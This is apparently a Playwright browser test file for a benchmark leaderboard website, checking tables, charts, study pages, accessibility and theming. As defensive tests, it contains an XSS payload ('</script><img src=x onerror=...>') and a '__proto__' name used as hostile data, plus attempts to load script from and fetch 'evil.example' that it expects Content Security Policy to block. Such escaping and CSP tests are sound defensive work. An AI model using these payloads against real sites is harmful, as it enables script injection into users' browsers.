"""What a visitor does with the site, in a browser."""

from __future__ import annotations

import json
import re
import threading
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

import fakes
import pytest
from sites import grid, of_suite, study, with_scores

from browser.conftest import Open
from dhrd_bench.commands.serve import ServeRequest, server_of
from dhrd_bench.data.inputs import InputSource
from dhrd_bench.report.leaderboard import analyse
from dhrd_bench.results.loading import load_results
from dhrd_bench.results.schema import CellRecord
from dhrd_bench.results.store import record_path
from dhrd_bench.results.table import long_table
from dhrd_bench.site.build import site_files, write_site
from dhrd_bench.studies.folder import shown_studies

pytestmark = pytest.mark.browser

HOSTILE = "</script><img src=x onerror=alert(1)>\\'\"${x}"
NASTY = (
    fakes.FakeMethod("__proto__", 0.7, role="baseline"), fakes.FakeMethod(HOSTILE, 0.9),
    fakes.FakeMethod("עברית \u05d0\u05d1 🚀", 0.8), fakes.FakeMethod("long-" * 30, 0.6, role="control"),
)  # fmt: skip


def smaller(record: CellRecord) -> CellRecord:
    """The same cell under another budget, of fewer training rows."""
    assert record.data is not None
    return record.model_copy(
        update={
            "cell": record.cell.model_copy(update={"budget": "tenth"}),
            "data": record.data.model_copy(update={"train_rows": 10}),
        }
    )


@pytest.fixture(scope="session")
def site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    made = [*grid(), fakes.failed(fakes.SMALL[1], fakes.THREE[1], 7, error=f"{HOSTILE} out of memory")]
    made += [smaller(record) for record in made if record.status == "ok"]
    folder, beside = tmp_path_factory.mktemp("site"), tmp_path_factory.mktemp("beside")
    board = analyse(long_table(made), resamples=200, margin=5.0)
    fakes.write(beside / "results", grid())
    pairs = [("better", "base"), ("slow", "base"), ("better", "slow")]
    study(beside / "studies" / "words.yaml", grid(), pairs, "Better is better than the base. " * 5)
    draft = study(beside / "studies" / "draft.yaml", grid(), pairs, "Slow is worse than the base.")
    draft.with_name("draft.frozen.json").unlink()
    (beside / "studies" / "broken.yaml").write_text("margn: 1", encoding="utf-8")
    studies = shown_studies(beside / "studies", beside / "results")
    write_site(site_files(board, source=InputSource(), studies=studies), folder)
    return folder


@pytest.fixture(scope="session")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    task = fakes.FakeTask(HOSTILE.replace("/", ""), 20)
    made = [
        with_scores(record).model_copy(update={"identity": f"identity-{at}"})
        for at, record in enumerate(fakes.records((task, fakes.SMALL[1]), NASTY, (0, 1)))
    ]
    folder, beside = tmp_path_factory.mktemp("hostile"), tmp_path_factory.mktemp("beside")
    fakes.write(beside / "results", made)
    study(beside / "__proto__.yaml", made, [(HOSTILE, "__proto__"), (NASTY[2].name, NASTY[3].name)], HOSTILE)
    studies = shown_studies(beside, beside / "results")
    write_site(site_files(analyse(long_table(made), resamples=200), studies=studies), folder)
    return folder


def way(page: str, **about: object) -> str:
    return f"#/{page}?{urlencode({'suite': 'fake', 'backbone': 'tiny', 'budget': 'smoke'} | about)}"


CELL = way("cell", task="alpha", method="better", seed=1)
PAGES = [
    "#/", way("method", method="better"), CELL, way("compare", a="better", b="base"), "#/records", "#/about",
    "#/studies", "#/studies?name=words", "#/studies?name=draft",
]  # fmt: skip


def column(page: Any, caption: str, number: int) -> list[str]:
    rows = page.locator("table", has=page.locator(f"caption:text-is('{caption}')")).first.locator("tbody tr")
    return [row.locator("th, td").nth(number).inner_text().split("\n")[0].strip() for row in rows.all()]


def test_a_table_sorts_by_its_heads(site: Path, look: Open) -> None:
    page = look(site).page
    assert column(page, "Leaderboard", 2)[0].startswith("better")
    scores = [float(text) for text in column(page, "Leaderboard", 3)]
    page.get_by_role("button", name="Score").first.click()
    assert [float(text) for text in column(page, "Leaderboard", 3)] == sorted(scores, reverse=True)
    assert page.locator("th[aria-sort=descending]").count() == 1
    page.keyboard.press("Enter")  # the head keeps the focus
    assert [float(text) for text in column(page, "Leaderboard", 3)] == sorted(scores)
    assert page.locator("#status").inner_text() == "Sorted by Score, ascending"


def test_filters_choose_and_the_address_keeps_them(site: Path, look: Open) -> None:
    page = look(site).page
    whole = column(page, "Leaderboard", 3)
    page.get_by_label("Task").first.select_option("beta")
    assert column(page, "Leaderboard", 3) != whole
    page.get_by_label("baseline", exact=True).uncheck()
    page.get_by_label("Method", exact=True).fill("BET")
    assert [name.split()[0] for name in column(page, "Leaderboard", 2)] == ["better"]
    assert page.locator("figure").first.locator("a.target").count() == 1
    page.reload()
    page.wait_for_selector("h1")
    assert [name.split()[0] for name in column(page, "Leaderboard", 2)] == ["better"]
    assert page.get_by_label("Task").first.input_value() == "1"
    page.get_by_label("Budget").select_option("tenth")
    page.wait_for_url(re.compile("budget=tenth"))


def test_marks_say_their_figures_to_a_mouse_and_to_a_keyboard(site: Path, look: Open) -> None:
    page = look(site).page
    chart = page.locator("figure", has_text="Score against throughput")
    score = column(page, "Leaderboard", 3)[0]
    mark = chart.locator("a.target[aria-label^='better']")
    mark.locator(".mark").hover()
    tip = page.locator("#tip")
    assert tip.is_visible()
    assert f"Score {score} [" in tip.inner_text()
    assert "QPS" in tip.inner_text()
    chart.locator("a.target[tabindex='0']").focus()
    first = page.evaluate("document.activeElement.getAttribute('aria-label')")
    page.keyboard.press("ArrowRight")
    second = page.evaluate("document.activeElement.getAttribute('aria-label')")
    assert first != second
    assert second.split(", ")[0] in tip.inner_text()
    page.keyboard.press("Escape")
    assert not tip.is_visible()
    page.keyboard.press("Enter")
    page.wait_for_url(re.compile("#/method"))


def test_every_chart_is_drawn_and_has_its_numbers(site: Path, look: Open) -> None:
    page = look(site).page
    for head in (
        "Score against throughput", "Gains over base", "Every seed", "Dev score by epoch", "Score by training rows",
        "Reliability", "Risk and coverage",
    ):  # fmt: skip
        chart = page.locator("figure", has_text=head).first
        assert chart.locator("svg .target").count() >= 2, head
        chart.locator("summary").click()
        assert chart.locator("tbody tr").count() >= 2, head
        assert "NaN" not in chart.inner_html(), head
    assert page.locator("rect.margin").count() == 1
    reliability = page.locator("figure", has_text="Reliability").first
    assert reliability.locator("line.bar").count() == reliability.locator(".target").count()
    assert re.search(r"\d\.\d{3} \[\d\.\d{3}, \d\.\d{3}\]", reliability.locator("tbody tr").first.inner_text())


def test_two_methods_are_compared_in_both_directions(site: Path, look: Open) -> None:
    page = look(site, way("compare", a="better", b="slow", task="beta")).page
    # The counts, computed from the records.
    ours, theirs = (
        [record for record in grid() if record.cell.task == "beta" and record.cell.method == name]
        for name in ("better", "slow")
    )
    only = [0, 0]
    for one, other in zip(ours, theirs, strict=True):
        assert one.rows is not None
        assert other.rows is not None
        for label, mine, his in zip(one.rows.label, one.rows.prediction, other.rows.prediction, strict=True):
            only[0] += mine == label != his
            only[1] += his == label != mine
    table = "Answers of both, over the seeds that both have"
    row = column(page, table, 0).index("beta")
    assert [int(column(page, table, place)[row].split()[0]) for place in (3, 4)] == only
    flips = page.locator("table").nth(1).locator("tbody tr")
    both = flips.count()
    page.get_by_label("Direction").select_option("a")
    assert 0 < flips.count() <= both
    assert all(text.startswith("+") for text in column(page, "Examples of beta that flip", 4))
    page.get_by_role("button", name="Swap").click()
    page.wait_for_url(re.compile("a=slow&b=better"))
    assert [int(column(page, table, place)[row].split()[0]) for place in (4, 3)] == only


def test_answers_are_searched_filtered_and_paged(site: Path, look: Open) -> None:
    page = look(site, CELL).page
    (record,) = (
        each for each in grid() if (each.cell.task, each.cell.method, each.cell.seed) == ("alpha", "better", 1)
    )
    assert record.rows is not None
    wrong = sum(label != answer for label, answer in zip(record.rows.label, record.rows.prediction, strict=True))
    answers = "Answers to the test examples"
    assert len(column(page, answers, 0)) == 25
    page.get_by_role("button", name="Next").click()
    assert column(page, answers, 0)[0] == record.rows.id[25]
    page.get_by_label("Show").select_option("wrong")
    assert len(column(page, answers, 0)) == wrong
    page.get_by_label("Show").select_option("")
    page.get_by_label("Search examples").fill("alpha-00007")
    assert column(page, answers, 0) == ["alpha-00007"]
    assert "Inputs are not shown: its suite is not known here" in page.locator("main").inner_text()
    assert page.locator("figure", has_text="Loss by epoch").count() == 1


def test_a_rationale_of_the_data_stands_beside_what_was_written(look: Open, tmp_path: Path) -> None:
    record = of_suite("derivations-short", "rules")
    assert record.rows is not None
    fakes.write(tmp_path / "results", [record])
    written = record_path(tmp_path / "results", record.cell).with_suffix(".generations.jsonl")
    line = {"id": record.rows.id[0], "text": "Ned may be a vint."}
    written.write_text(json.dumps(line) + "\n", encoding="utf-8")
    board = analyse(load_results(tmp_path / "results"), resamples=200)
    write_site(site_files(board, source=InputSource()), tmp_path / "site")
    about = {"suite": "derivations-short", "task": "rules", "method": record.cell.method, "seed": 0}
    page = look(tmp_path / "site", way("cell", **about)).page
    answers = "Answers to the test examples"
    assert column(page, answers, 5)[:2] == ["Ned may be a vint.", "–"]
    assert column(page, answers, 6)[0].startswith("Ned is a wimp. Every wimp is a tarn")
    page.get_by_label("Search examples").fill("Every hulk is a korb")
    assert column(page, answers, 0)[0] == record.rows.id[0]


def test_a_study_has_its_verdicts_on_the_front_page_and_on_its_own(site: Path, look: Open) -> None:
    page = look(site).page
    card = page.locator("article", has_text="words")
    assert "Complete: 12 of 12 cells have a record. Margin 5.0 points. 0 deviations from the plan." in card.inner_text()
    verdicts = card.locator("li").all_inner_texts()
    assert len(verdicts) == 3
    for text in verdicts:
        assert re.match(
            r"(better|worse|undecided|equivalent within 5 pt) \w+ beside \w+ over alpha, beta [+−]\d", text
        ), text
    assert "Not frozen: broken" in page.locator("main").inner_text()
    card.get_by_role("link", name="words").focus()
    page.keyboard.press("Enter")
    page.wait_for_selector("h1:has-text('Study words')")
    assert page.locator(".contrasts li").all_inner_texts() == verdicts
    chart = page.locator("figure")
    assert chart.locator(".target").count() == 3
    assert chart.locator("rect.margin").count() == 1
    said = column(page, "Primary contrasts", 3)
    chart.locator("summary").click()
    table = chart.locator("tbody tr")
    assert [row.locator("td").last.inner_text() for row in table.all()] == said
    page.locator(".contrasts a").first.click()
    page.wait_for_selector("text=Examples that flip")
    page.get_by_role("link", name="Studies").click()
    page.get_by_role("link", name="draft").click()
    page.wait_for_selector("text=A draft: what it plans is not frozen")


def test_a_failed_record_says_why(site: Path, look: Open) -> None:
    page = look(site, "#/records").page
    page.get_by_label("State").select_option("failed")
    page.get_by_role("link", name="Record of better on beta, seed 7").click()
    page.wait_for_url(re.compile("#/cell"))
    page.wait_for_selector(".error")
    assert f"{HOSTILE} out of memory" in page.locator(".error").inner_text()


def test_light_and_dark_follow_the_system_and_the_switch(site: Path, look: Open) -> None:
    ground = "getComputedStyle(document.body).backgroundColor"
    light, dark = (look(site, color_scheme=scheme).page for scheme in ("light", "dark"))
    shades = light.evaluate(ground), dark.evaluate(ground)
    assert shades[0] != shades[1]
    dark.locator("#theme").click()
    assert (dark.locator("#theme").inner_text(), dark.evaluate(ground)) == ("Theme: light", shades[0])
    light.locator("#theme").click()
    light.locator("#theme").click()
    assert (light.locator("#theme").inner_text(), light.evaluate(ground)) == ("Theme: dark", shades[1])
    light.reload()
    light.wait_for_selector("h1")
    assert light.evaluate(ground) == shades[1]


def test_a_page_is_printed_dark_on_white_without_what_is_to_be_clicked(site: Path, look: Open) -> None:
    page = look(site, color_scheme="dark").page
    page.locator("#theme").click()
    page.locator("#theme").click()  # dark by the switch, too
    page.emulate_media(media="print")
    assert page.evaluate("getComputedStyle(document.body).backgroundColor") == "rgb(255, 255, 255)"
    assert page.locator("header, .filters, input").filter(visible=True).count() == 0
    assert page.locator("figure svg").filter(visible=True).count() >= 3


@pytest.mark.parametrize("page_way", PAGES)
def test_a_page_fits_a_phone(site: Path, look: Open, page_way: str) -> None:
    page = look(site, page_way, viewport={"width": 360, "height": 740}).page
    page.wait_for_timeout(100)
    assert page.evaluate("document.documentElement.scrollWidth") <= 360


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("page_way", PAGES)
def test_axe_finds_nothing(site: Path, look: Open, page_way: str, scheme: str) -> None:
    from axe_playwright_python.sync_playwright import Axe

    page = look(site, page_way, color_scheme=scheme, reduced_motion="reduce").page
    page.wait_for_timeout(100)
    page.evaluate("document.querySelectorAll('details').forEach((each) => { each.open = true; })")
    rules = ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa", "best-practice"]
    found = Axe().run(page, options={"runOnly": {"type": "tag", "values": rules}, "preload": False})
    assert found.violations_count == 0, found.generate_report()


def test_hostile_names_are_names(hostile: Path, look: Open) -> None:
    page = look(hostile).page
    assert column(page, "Leaderboard", 2)[0].split("\n")[0] == HOSTILE
    assert page.locator("img").count() == 0
    for method in NASTY:
        page.goto(f"{page.url.split('#')[0]}{way('method', method=method.name)}")
        page.wait_for_function("name => document.querySelector('h1').textContent.startsWith(name)", arg=method.name)
        page.get_by_role("link", name=re.compile("^Record of")).first.click()
        page.wait_for_selector("text=Answers to the test examples")
    page.goto(f"{page.url.split('#')[0]}{way('compare', a='__proto__', b=HOSTILE)}")
    page.wait_for_selector("text=Examples that flip")
    page.goto(f"{page.url.split('#')[0]}#/studies?name=__proto__")
    page.wait_for_selector("h1:has-text('Study __proto__')")
    assert page.locator(".lead").inner_text() == HOSTILE
    assert page.locator(".contrasts li").count() == 2
    assert page.locator("img").count() == 0


def test_a_page_that_is_served_shows_new_records_by_itself(look: Open, tmp_path: Path) -> None:
    server = server_of(ServeRequest(results=tmp_path, port=0))
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05})
    thread.start()
    try:
        page = look(server.address.rstrip("/")).page
        assert page.locator("h1").inner_text() == "Nothing to show yet"
        fakes.write(tmp_path, fakes.records((fakes.SMALL[1],), fakes.THREE[:2], (0,)))
        page.wait_for_selector("h1:text-is('Leaderboard')", timeout=60_000)
        assert column(page, "Leaderboard", 2) == ["better", "basebaseline"]
        page.goto("about:blank")
    finally:
        server.shutdown()
        thread.join()
        server.server_close()


def test_a_page_may_load_nothing_else(site: Path, look: Open) -> None:
    watched = look(site)
    tried = watched.page.evaluate(
        """async () => {
        const refused = [];
        for (const attempt of [
          () => { document.body.innerHTML = "<b>x</b>"; },
          () => { document.createElement("script").src = "https://evil.example/x.js"; },
          () => fetch("https://evil.example/"),
        ]) { try { await attempt(); } catch (error) { refused.push(error.name); } }
        return refused;
      }"""
    )
    assert tried == ["TypeError", "TypeError", "TypeError"]
    assert all("Content Security Policy" in text or "requires 'Trusted" in text for text in watched.said)
    watched.said.clear()
